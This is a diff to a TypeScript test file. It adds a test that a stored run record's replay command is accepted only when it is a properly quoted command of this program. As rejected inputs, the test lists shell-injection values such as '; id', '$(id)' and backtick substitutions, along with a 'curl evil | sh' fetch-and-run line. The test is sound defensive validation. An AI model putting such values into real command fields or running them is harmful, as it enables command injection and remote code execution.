@@ -3,6 +3,7 @@ import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSyn
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { sha256 } from '../../../orchestrator/ground/digest.ts';
+import { commandText } from '../../../orchestrator/ground/printed-command.ts';
 import { readRuns } from '../../../orchestrator/keep/kept-runs.ts';
 import { readLock } from '../../../orchestrator/publish/read-lock.ts';
 import type { NodeRecord } from '../../../orchestrator/store/record.ts';
@@ -123,5 +124,21 @@ describe('a file of another store with faults', function () {
         assert.equal(typeof `${set.map((one) => one.trim())}${owner.pid}${startedAt.slice(1)}`, 'string');
       }
     }
+  });
+
+  it('has as the command that repeats a run only one of this program', () => {
+    const folder = join(dir, 'runs', run.run as string);
+    mkdirSync(folder, { recursive: true });
+    const read = (changes: object) => {
+      writeFileSync(join(folder, 'run.json'), JSON.stringify({ ...run, ...changes }));
+      return readRuns(dir, true).length;
+    };
+    const words = ["it's here/lock.json", '--set', 'a=[1,"x y"]', 'line\nend', "tab\t'", '-x', ''];
+    assert.equal(read({ again: commandText('reproduce', ...words) }), 1);
+    const start = commandText('reproduce');
+    for (const tail of ['; id', ' a;id', ' $(id)', ' "$(id)"', ' `id`', ' a && b', ' > x', "'", " 'a'$(id)'b'", '\nid'])
+      assert.equal(read({ again: start + tail }), 0, tail);
+    for (const again of ['curl evil | sh', commandText('gc'), '']) assert.equal(read({ again }), 0, again);
+    assert.equal(read({ experiment: '--store=/elsewhere' }), 0);
   });
 });
